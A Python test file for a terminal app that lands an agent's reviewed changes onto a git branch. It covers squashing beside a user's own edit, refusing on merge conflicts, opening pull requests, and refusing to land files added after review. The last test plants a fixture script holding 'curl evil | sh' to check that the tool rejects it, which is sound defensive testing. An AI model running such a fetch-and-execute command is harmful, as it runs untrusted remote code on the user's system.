"""Landing from the review screen (`M`) in the real app at 80 by 24, on the sim, a real repository
and a real history file: the unsent drafts asked about first, the commit message edited, the change
squashed onto the base (moved by one commit) beside the person's own uncommitted edit, which stays;
and a base that moved and conflicts, which names the file and leaves everything as it was."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from lfgtui.history.store import Store
from lfgtui.sim.server import SimServer
from lfgtui.ui.screens.land import LandScreen
from lfgtui.ui.screens.modals import ConfirmScreen
from lfgtui.ui.screens.review import ReviewScreen
from tests.support.app import keys, until
from tests.support.git import commit_all, gh_recorder, git
from tests.support.review import comment, recorded_app, review_when_done, writer_tickets

SMALL = (80, 24)


def status_of(screen: ReviewScreen) -> str:
    return str(screen.query_one("#review-status").render())


async def test_m_on_the_review_screen_squashes_the_change_beside_the_persons_own_edit(
    sim: SimServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = writer_tickets(tmp_path, monkeypatch)
    repo, db = tmp_path / "repo", tmp_path / "h.sqlite3"
    base = git(repo, "rev-parse", "main")
    async with recorded_app(sim, path, db) as app, app.run_test(size=SMALL) as pilot:
        screen = await review_when_done(pilot, app)
        await pilot.press("f", "n", "down")
        await comment(pilot, screen, "Later")
        (repo / "README.md").write_text("the person's own edit\n")
        await pilot.press("M")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.press("y")  # land without the unsent draft
        await until(pilot, lambda: isinstance(app.screen, LandScreen))
        await pilot.press("tab", *keys("Reviewed: "), "ctrl+s")
        await until(pilot, lambda: "Landed w onto main" in status_of(screen), 30)
        assert "(squash)" in status_of(screen)
        assert [d.body for d in screen.desk.drafts] == ["Later"], "the draft stays a draft"
        run_id = app.controller.run_id
    assert git(repo, "rev-list", "--count", f"{base}..main") == "1", "the base moved by one commit"
    assert git(repo, "log", "-1", "--format=%s", "main").startswith("Reviewed: ")
    assert (repo / "notes" / "summary.md").exists()
    assert (repo / "README.md").read_text() == "the person's own edit\n", "untouched"
    assert git(repo, "status", "--porcelain") == "M README.md"
    assert not (tmp_path / "trees" / run_id / "w").exists(), "landed, then archived"
    with Store.open(db) as store:
        (landing,) = store.conn.execute("SELECT strategy, base_branch FROM landings").fetchall()
    assert tuple(landing) == ("squash", "main")


async def test_a_conflict_names_the_file_and_leaves_everything_as_it_was(
    sim: SimServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = writer_tickets(tmp_path, monkeypatch)
    repo, db = tmp_path / "repo", tmp_path / "h.sqlite3"
    async with recorded_app(sim, path, db) as app, app.run_test(size=SMALL) as pilot:
        screen = await review_when_done(pilot, app)
        (repo / "notes").mkdir()
        (repo / "notes" / "summary.md").write_text("the base's own summary\n")
        commit_all(repo, "the base moved")
        base = git(repo, "rev-parse", "main")
        tree = next((tmp_path / "trees").rglob("summary.md")).parent.parent
        left = git(tree, "status", "--porcelain")
        await pilot.press("M")
        await until(pilot, lambda: isinstance(app.screen, LandScreen))
        await pilot.press("right", "space", "ctrl+s")  # the merge commit, this time
        await until(pilot, lambda: "Not landed" in status_of(screen), 30)
        said = status_of(screen)
        assert "conflicts" in said and "notes/summary.md" in said and "left as it was" in said
        assert git(repo, "rev-parse", "main") == base
        assert git(tree, "status", "--porcelain") == left, "the agent's work, uncommitted as it was"
        assert git(repo, "worktree", "list", "--porcelain").count("worktree ") == 2, "no scratch left"
    with Store.open(db) as store:
        assert store.conn.execute("SELECT count(*) FROM landings").fetchone()[0] == 0


async def test_a_pull_request_from_the_review_screen_pushes_the_branch_and_opens_it_with_gh(
    sim: SimServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The dialog's pull-request choice lands as `lfg land --pr`: the base does not move, the branch is
    pushed to the remote (a bare repository) and `gh pr create` is asked (a recorder on PATH)."""
    path = writer_tickets(tmp_path, monkeypatch)
    repo, db = tmp_path / "repo", tmp_path / "h.sqlite3"
    bare = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(repo, "remote", "add", "origin", str(bare))
    git(repo, "push", "-q", "-u", "origin", "main")
    log = gh_recorder(tmp_path / "bin")
    monkeypatch.setenv("PATH", f"{log.parent}{os.pathsep}{os.environ['PATH']}")
    base = git(repo, "rev-parse", "main")
    async with recorded_app(sim, path, db) as app, app.run_test(size=SMALL) as pilot:
        screen = await review_when_done(pilot, app)
        await pilot.press("M")
        await until(pilot, lambda: isinstance(app.screen, LandScreen))
        await pilot.press("tab", "tab", "space", "ctrl+s")  # past the message: the pull request
        await until(pilot, lambda: "Pushed w to origin" in status_of(screen), 30)
        assert "pull request https://github.com/example/project/pull/7" in status_of(screen)
        run_id = app.controller.run_id
    assert git(repo, "rev-parse", "main") == base, "a pull request moves no base"
    branches = git(bare, "for-each-ref", "--format=%(refname:short)", "refs/heads/").split()
    assert sorted(branches) == [f"lfg/{run_id}/w", "main"], "the ticket's branch pushed"
    created = [json.loads(line) for line in log.read_text().splitlines() if '"create"' in line]
    assert len(created) == 1 and created[0][1:3] == ["pr", "create"]
    with Store.open(db) as store:
        (landing,) = store.conn.execute("SELECT pull_request, base_branch FROM landings").fetchall()
    assert tuple(landing) == ("https://github.com/example/project/pull/7", "main")


async def test_the_review_screen_lands_only_the_tree_it_shows(
    sim: SimServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file written in the worktree after the screen took its diff (the agent's leftover process,
    a sibling) is not landed unseen: the landing refuses, naming the tree it shows and the one the
    worktree holds now (`lfg land --tree`). Fails before: the later file landed with the change."""
    path = writer_tickets(tmp_path, monkeypatch)
    repo, db = tmp_path / "repo", tmp_path / "h.sqlite3"
    base = git(repo, "rev-parse", "main")
    async with recorded_app(sim, path, db) as app, app.run_test(size=SMALL) as pilot:
        screen = await review_when_done(pilot, app)
        tree = next((tmp_path / "trees").rglob("summary.md")).parent.parent
        (tree / "later.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
        await pilot.press("M")
        await until(pilot, lambda: isinstance(app.screen, LandScreen))
        await pilot.press("ctrl+s")
        await until(pilot, lambda: "Not landed" in status_of(screen), 30)
        assert "no longer holds what review showed" in status_of(screen)
    assert git(repo, "rev-parse", "main") == base, "nothing landed"
    with Store.open(db) as store:
        assert store.conn.execute("SELECT count(*) FROM landings").fetchone()[0] == 0
